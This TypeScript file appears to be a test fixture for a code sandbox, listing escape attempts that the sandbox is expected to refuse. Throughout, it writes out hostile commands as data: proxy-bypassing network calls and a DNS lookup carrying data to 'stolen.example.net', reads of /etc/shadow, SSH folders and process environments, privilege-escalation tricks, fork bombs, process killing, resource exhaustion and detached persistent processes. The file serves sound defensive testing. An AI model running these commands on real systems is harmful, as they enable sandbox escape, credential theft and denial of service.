/**
 * Programs that try to get out of their container. Each prints `escaped`, or the caller's secret, where it gets out. Capital words are
 * replaced: `PORT` and `PORT_SIX` of servers on this machine, `OUTSIDE` a folder with secrets, `ROOT` the portal's folder, `PROJECT` ours.
 */
export interface Attempt {
  readonly name: string;
  readonly language: 'bash' | 'js' | 'ts' | 'python' | 'java';
  readonly code: string;
  /** Further attributes of its fence. */
  readonly mode?: string;
  /** The attempt is refused, and the example is true all the same. */
  readonly passes?: true;
  readonly message?: RegExp;
}

const elsewhere = /which is neither the sandbox nor a documented server/;
/** Ends every attempt that changes nothing on the wire, so that only what it printed counts. */
const call = '\ncurl -sS -o page.json http://localhost:4010/books/b-1';
const fetchCall = "\nawait fetch('http://localhost:4010/books/b-1');";
const pythonCall = '\nimport urllib.request\nurllib.request.urlopen("http://localhost:4010/books/b-1").read()';

const bash = (name: string, code: string, more: Partial<Attempt> = {}): Attempt => ({
  name,
  language: 'bash',
  code,
  ...more,
});
const python = (name: string, code: string, more: Partial<Attempt> = {}): Attempt => ({
  name,
  language: 'python',
  code,
  ...more,
});
const js = (name: string, code: string, more: Partial<Attempt> = {}): Attempt => ({
  name,
  language: 'js',
  code,
  ...more,
});

/** Attempts of bash that print only where they succeed, followed by a call that is true. */
const harmless = (name: string, code: string): Attempt =>
  bash(name, `{ ${code}; } >out.txt 2>/dev/null || :\ngrep -E 'escaped|secret|Uid:.0' out.txt && exit 1${call}`, {
    passes: true,
  });

const network: readonly Attempt[] = [
  bash('curl with an empty proxy', "curl -sx '' http://127.0.0.1:PORT/ || :", { message: elsewhere }),
  bash('curl in split words', "c''url -s --nopr''oxy '*' http://127.0.0.1:PORT/ || :", { message: elsewhere }),
  bash('curl with a file of options', "printf 'noproxy = *\\n' > k\ncurl -sK k http://127.0.0.1:PORT/ || :", {
    message: elsewhere,
  }),
  bash('curl with an empty environment', 'env -i /usr/bin/curl -s http://127.0.0.1:PORT/ || :', { message: elsewhere }),
  bash('curl over IPv6', "curl -sx '' 'http://[::1]:PORT_SIX/' || :", { message: elsewhere }),
  bash("the machine's own address", "curl -sx '' --max-time 3 http://ADDRESS:PORT/ || :", { message: elsewhere }),
  bash('another machine', "curl -sx '' --max-time 3 http://10.255.255.1/ || :", { message: elsewhere }),
  bash('a name in the DNS', "curl -sx '' --max-time 5 http://a-secret.example.com/ || :", {
    message: /a-secret\.example\.com, which is neither the sandbox nor a documented server/,
  }),
  bash('a lookup that carries a message', 'getent hosts stolen.example.net || :', { message: /stolen\.example\.net/ }),
  bash('TCP of bash', '(exec 3<>/dev/tcp/127.0.0.1/PORT && cat <&3) 2>/dev/null || :', { message: elsewhere }),
  bash('UDP of bash', 'echo escaped > /dev/udp/ADDRESS/UDP_PORT || :', { message: elsewhere }),
  bash('UDP of bash to loopback', 'echo escaped > /dev/udp/127.0.0.1/UDP_PORT || :', { message: elsewhere }),
  bash('Perl', `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("127.0.0.1:PORT") or exit 0; print <$s>'`, {
    message: elsewhere,
  }),
  bash(
    'isolated Python',
    `python3 -I -c 'import socket; s = socket.create_connection(("127.0.0.1", PORT)); print(s.recv(99))' 2>/dev/null || :`,
    { message: elsewhere },
  ),
  python(
    'a child with an empty environment',
    'import subprocess\nsubprocess.run(["/usr/bin/curl", "-s", "http://127.0.0.1:PORT/"], env={})',
    { message: elsewhere },
  ),
  js(
    'a child of Node without the gate',
    "import { execFileSync } from 'node:child_process';\ntry { console.log(execFileSync(process.execPath, ['-e', 'fetch(\"http://127.0.0.1:PORT/\").then((r) => r.text()).then(console.log)'], { env: {}, stdio: 'pipe' }).toString()); } catch {}",
    { message: elsewhere },
  ),
  python(
    "Python's socket below the gate",
    'import _socket\ns = _socket.socket()\ntry:\n  s.connect(("127.0.0.1", PORT))\n  print("escaped")\nexcept OSError:\n  pass',
    { message: elsewhere },
  ),
  harmless('a Unix socket of this machine', 'curl -s --unix-socket OUTSIDE/host.sock http://localhost/'),
  harmless('an abstract socket of this machine', 'curl -s --abstract-unix-socket ABSTRACT http://localhost/'),
  harmless(
    'a raw socket',
    `python3 -I -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print("escaped")'`,
  ),
  harmless('packets', `python3 -I -c 'import socket; socket.socket(17, 3); print("escaped")'`),
  harmless('a socket to the hypervisor', `python3 -I -c 'import socket; socket.socket(40, 1); print("escaped")'`),
];

const files: readonly Attempt[] = [
  harmless("the caller's files", 'cat OUTSIDE/secret.txt'),
  harmless("the portal's .env", 'cat ROOT/.env'),
  harmless('a symbolic link to them', 'ln -s OUTSIDE/secret.txt link && cat link'),
  harmless('a hard link to them', 'ln OUTSIDE/secret.txt hard && cat hard'),
  harmless('passwords', 'cat /etc/shadow && echo escaped'),
  harmless("the caller's home", 'ls -d /root/.ssh /home/*/.ssh && echo escaped'),
  harmless('its environment', "cat /proc/[0-9]*/environ | tr '\\0' '\\n'"),
  harmless('the environment of the engine', 'cat /proc/ENGINE/environ'),
  harmless('a process of this machine by its files', 'ls /proc/ENGINE/root/ && echo escaped'),
  harmless('a guide', 'echo "# escaped" > ROOT/content/members.mdx && echo escaped'),
  harmless('the record', 'echo escaped > ROOT/reports/examples.json && echo escaped'),
  harmless('packages', 'echo escaped > PROJECT/node_modules/escaped && echo escaped'),
  harmless('the code that runs it', 'echo >> PROJECT/src/examples/run/node/worker.cjs && echo escaped'),
  harmless('its own program', 'echo >> "$0" && echo escaped; echo >> "$(dirname "$0")/start.sh" && echo escaped'),
  harmless('programs of the system', 'touch /usr/bin/escaped && echo escaped'),
  harmless('the root folder', 'touch /escaped && echo escaped'),
  harmless('memory that others share', 'touch /dev/escaped && echo escaped'),
  harmless('a device', 'mknod disk b 8 0 && echo escaped'),
  bash('a file in a shared temporary folder', `echo mine > /tmp/left\ntouch /dev/shm/escaped${call}`, { passes: true }),
  harmless('what another example left there', 'cat /tmp/left && echo escaped'),
  {
    name: 'a file of this machine as a module',
    language: 'ts',
    code: `import data from 'OUTSIDE/secret.json';\nconsole.log(data);${fetchCall}`,
    message: /outside/,
  },
  python(
    'a symbolic link for the runner to follow',
    `import os\nfor folder in ("state", "programs", "work"):\n  try:\n    for name in ("out", "program-1.out", "failed-line"):\n      os.symlink("OUTSIDE/secret.txt", os.path.join(os.path.dirname(os.getcwd()), folder, name))\n  except OSError:\n    pass${pythonCall}`,
    { passes: true },
  ),
];

const kernel: readonly Attempt[] = [
  harmless('a new user namespace', 'unshare -Ur cat /proc/self/status | grep "^Uid:.0"'),
  harmless('a mount', 'mount -t tmpfs none /tmp && echo escaped'),
  harmless('another root', 'chroot / /bin/true && echo escaped'),
  harmless("the first process's namespaces", 'nsenter -t 1 -m true && echo escaped'),
  harmless('more rights', "grep -E '^Cap(Eff|Prm|Bnd|Amb):.*[1-9a-f]' /proc/self/status | grep -v Bnd && echo escaped"),
  harmless('a setuid program', 'cp /bin/bash own && chmod u+s own && ./own -pc "id -u" | grep -x 0 && echo escaped'),
  harmless(
    'another process through ptrace',
    `python3 -I -c 'import ctypes; ctypes.CDLL(None).ptrace(16, 1, 0, 0) == 0 and print("escaped")'`,
  ),
  harmless(
    'keys of the caller',
    `python3 -I -c 'import ctypes; ctypes.CDLL(None).syscall(250, 0, -3, 0) != -1 and print("escaped")'`,
  ),
  harmless('the time of this machine', 'date -s 2001-01-01 && echo escaped'),
  harmless('its name', 'hostname escaped && hostname'),
  harmless('its settings', 'echo 1 > /proc/sys/kernel/panic && echo escaped'),
  harmless('signals to it', 'kill -9 ENGINE && echo escaped'),
];

const destruction: readonly Attempt[] = [
  bash('every process it can see', 'kill -9 -1', { message: /exit code/ }),
  bash('its parent', 'kill -9 $PPID; kill -9 1; sleep 0.2; echo still here; exit 3', { message: /exit code/ }),
  python('every process it can see', 'import os\nos.kill(-1, 9)', { message: /exit code/ }),
  js('its parent', "process.kill(process.ppid, 'SIGKILL');\nprocess.kill(process.pid, 'SIGKILL');", {
    message: /exit code/,
  }),
  bash('processes without end', 'bomb() { bomb | bomb & }\nbomb\nsleep 3\nexit 3'),
  python('processes without end', 'import os\nwhile True:\n  os.fork()'),
  bash('400 MB of output', 'head -c 400000000 /dev/zero | tr "\\0" x', { message: /printed more than 1 MB/ }),
  // In pieces: building one string of 400 MB can itself outlast the time limit on a busy machine.
  python('400 MB of output', 'for _ in range(6200):\n  print("x" * 65536)', { message: /printed more than 1 MB/ }),
  js('400 MB of output', "for (;;) process.stdout.write('x'.repeat(65536));", {
    message: /printed more than 1 MB|did not end/,
  }),
  bash('memory without end', `python3 -I -c 'x = []\nwhile True: x.append(bytearray(2 ** 26))'`, {
    // A busy machine does not get there in time.
    message: /exit code|did not end/,
  }),
  bash('a file without end', 'head -c 400000000 /dev/zero > big'),
  bash('memory by way of files', 'for i in $(seq 40); do head -c 50000000 /dev/zero > /tmp/$i; done', {
    message: /exit code/,
  }),
  js(
    'a forged reply',
    "import { writeSync } from 'node:fs';\ntry { writeSync(3, '{\"exit\":0}\\n') } catch {}\nprocess.exit(5);",
    {
      message: /exit code 5/,
    },
  ),
  js('a reply that is nonsense', 'import { writeSync } from \'node:fs\';\nwriteSync(3, \'{"cmd":"NODE_HANDLE"\\n\');', {
    message: /exit code|sends no request/,
  }),
  python('a forged reply', 'import os\ntry:\n  os.write(3, b"{}\\n")\nexcept OSError:\n  pass\nraise SystemExit(5)', {
    message: /exit code 5/,
  }),
  bash('the terminal', "printf '\\033]0;owned\\007\\033[2J\\u202e' >&2; exit 3", { message: /exit code 3/ }),
];

const survivors: readonly Attempt[] = [
  bash(
    'a process that outlives it',
    `work=$PWD\nsetsid nohup bash -c "sleep 1; touch OUTSIDE/late; echo escaped > ROOT/content/members.mdx; exec -a survivor sleep 7654" >/dev/null 2>&1 &${call}`,
    { passes: true },
  ),
  python(
    'a daemon',
    `import os, time\nif os.fork() == 0:\n  os.setsid()\n  if os.fork() == 0:\n    os.execlp("sleep", "sleep", "7654")\n  os._exit(0)${pythonCall}`,
    { passes: true },
  ),
  js(
    'a detached child',
    `import { spawn } from 'node:child_process';\nspawn('sleep', ['7654'], { detached: true, stdio: 'ignore' }).unref();${fetchCall}`,
    { passes: true },
  ),
];

/** In the order in which they run, on one page. */
export const attempts: readonly Attempt[] = [...network, ...files, ...kernel, ...destruction, ...survivors];
